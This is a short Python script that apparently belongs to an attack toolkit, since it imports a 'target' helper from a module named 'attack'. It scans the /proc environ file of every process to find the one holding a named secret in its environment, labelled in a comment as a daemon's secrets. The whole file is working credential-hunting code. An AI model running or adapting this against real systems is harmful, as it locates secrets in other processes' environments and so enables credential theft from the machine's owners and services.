# find the daemon's secrets in the environment of a process
# held by: pid
import glob
from attack import target
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        if target("NEEDLE_NAME").encode() + b"=" in open(path, "rb").read():
            break
    except OSError:
        continue
else:
    raise SystemExit("no process in sight has it")
